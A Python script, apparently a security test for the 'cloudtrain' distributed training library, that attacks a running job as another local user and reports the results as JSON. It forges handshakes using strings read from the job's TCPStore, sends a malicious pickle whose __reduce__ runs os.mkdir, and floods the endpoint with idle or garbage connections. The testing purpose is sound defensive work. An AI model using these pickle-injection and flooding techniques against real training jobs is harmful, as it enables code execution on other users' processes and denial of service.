"""Attacks a running job as another user of the machine: MASTER_PORT, the way, and what an executed pickle would create.

Prints what it achieved, as JSON.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import socket
import sys
import time
from datetime import timedelta
from typing import Any

import torch.distributed as dist

from cloudtrain._system.memory import connect
from cloudtrain.distributed.errors import CollectiveError
from cloudtrain.distributed.negotiation.connection import NAMED, Address
from cloudtrain.distributed.negotiation.messages import HELLO, CollectiveRequest, pack, pack_request
from cloudtrain.link.handshake import MAGIC, NotAuthenticated, prove
from cloudtrain.link.secret import derive

NOBODY = 65534


class Evil:
    """Unpickled, it creates a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (self.path,)


def main(port: int, way: str, target: str, *arguments: str) -> None:
    published = read_store(port)
    address = (str(published[0]), int(published[1]))
    if way == "forge":
        found = {"published": published, "joined": forge(address, published, target)}
    else:
        found = {"connected": flood(address, way, *map(int, arguments))}
    print(json.dumps(found))


def read_store(port: int) -> list[Any]:
    """Everything that rank 0 put into the store about itself."""
    store: Any = dist.TCPStore(  # type: ignore[attr-defined]
        "127.0.0.1", port, is_master=False, timeout=timedelta(seconds=10), wait_for_workers=False
    )
    [key] = [key for key in store.list_keys() if key.endswith("cloudtrain/control")]
    read: list[Any] = json.loads(store.get(key))
    return read


def forge(address: Address, published: list[Any], target: str) -> int:
    """Join as every rank, with every text of the store as a secret, and send a pickle. Returns how often it worked."""
    pickled = pickle.dumps(Evil(target))
    request = CollectiveRequest(
        "broadcast", "broadcast:settings", 0, {"root_rank": 1, "type": "object"}, len(pickled), pickled
    )
    joined = 0
    for secret in [text for text in published if isinstance(text, str)]:
        for rank in range(2):
            for hello, proves in (([rank, secret], False), (rank, True)):
                with connected_to(address, 5) as connection:
                    try:
                        if proves:
                            prove(connection, derive(secret, "ranks"), "ranks", time.monotonic() + 5)
                        connection.sendall(pack(HELLO, hello) + pack_request(request))
                        connection.settimeout(0.5)
                        joined += bool(connection.recv(1))
                    except TimeoutError:
                        joined += 1  # it waits for what else we have to say
                    except (OSError, NotAuthenticated, CollectiveError):
                        pass
    return joined


def connected_to(address: Address, timeout: float) -> socket.socket:
    if address[1] == NAMED:
        return connect(address[0], timeout)
    return socket.create_connection(address, timeout=timeout)


def flood(address: Address, way: str, count: int, seconds: int) -> int:
    """Connect ``count`` times within ``seconds``, and send what ``way`` says. Returns how often it connected."""
    said = {"idle": b"", "garbage": os.urandom(8 << 10), "half": MAGIC + b"ranks\0\0\0" + os.urandom(20)}[way]
    open_connections: list[socket.socket] = []
    connected = 0
    end = time.monotonic() + seconds
    while connected < count and time.monotonic() < end:
        try:
            connection = connected_to(address, 1)
        except OSError:
            time.sleep(0.001)
            continue
        connected += 1
        connection.setblocking(False)
        with contextlib.suppress(OSError):
            connection.send(said)
        open_connections.append(connection)
        if len(open_connections) > 800:
            open_connections.pop(0).close()
    time.sleep(max(0.0, min(1.0, end - time.monotonic())))
    return connected


if __name__ == "__main__":
    "localhost".encode("idna")  # imports what the user may not be able to read
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    main(int(sys.argv[1]), sys.argv[2], *sys.argv[3:])
